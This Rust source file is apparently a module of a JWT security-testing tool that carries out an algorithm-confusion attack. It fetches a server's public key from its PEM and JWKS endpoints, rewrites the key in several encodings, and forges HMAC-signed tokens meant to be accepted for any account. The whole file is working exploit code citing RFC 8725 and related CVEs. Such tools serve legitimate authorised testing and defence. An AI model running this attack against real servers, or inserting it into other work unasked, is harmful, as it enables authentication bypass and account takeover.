//! The public key as a secret.

use aws_lc_rs::hmac;
use data_encoding::BASE64;
use data_encoding::BASE64URL_NOPAD;

use crate::attack::{
    http::Request,
    plan::{Attack, Expected, Needs, Tried},
    stage::Stage,
    target::encode,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "algorithm-confusion",
    title: "The public key as a secret",
    has: "the public key, which everybody has",
    does: "writes a token that is signed by HMAC with it, in each form in which a server could hold it",
    gains: "any account",
    source: "RFC 8725 section 2.1; CVE-2016-10555; CVE-2024-37568; F029",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let mut keys = Vec::new();
    let pem = stage.target.send(Request::get("/public.pem")).await?;
    if pem.is_ok() {
        keys.push(("PEM".to_owned(), pem.body.to_vec()));
    }
    let set = stage.target.send(Request::get("/.well-known/jwks.json")).await?;
    for jwk in set.value()["keys"].as_array().ok_or("there is no key set")? {
        keys.push(("the JWK's text".to_owned(), jwk.to_string().into_bytes()));
        for member in ["x", "n", "y"] {
            let Some(text) = jwk[member].as_str() else { continue };
            keys.push((format!("{member} as text"), text.into()));
            let bytes = BASE64URL_NOPAD.decode(text.as_bytes())?;
            if jwk["crv"] == "Ed25519" {
                let der = [ED25519, &bytes].concat();
                let body = BASE64.encode(&der);
                keys.push((
                    "PEM".to_owned(),
                    format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n").into(),
                ));
                keys.push((
                    "PEM after white space".to_owned(),
                    format!("\n-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----").into(),
                ));
                keys.push(("DER".to_owned(), der));
            }
            keys.push((format!("{member} as bytes"), bytes));
        }
    }
    let mut tokens = Vec::new();
    for (form, key) in &keys {
        for (name, algorithm) in
            [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)]
        {
            let mut header = header.clone();
            header["alg"] = name.into();
            let signed = format!("{}.{}", encode(header.to_string()), encode(claims.to_string()));
            let tag = hmac::sign(&hmac::Key::new(algorithm, key), signed.as_bytes());
            tokens.push((format!("{name} with {form}"), format!("{signed}.{}", encode(tag.as_ref()))));
        }
    }
    stage.try_tokens(&tokens).await
}

/// What stands before the 32 bytes of an Ed25519 key in its DER (RFC 8410).
const ED25519: &[u8] = &[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00];
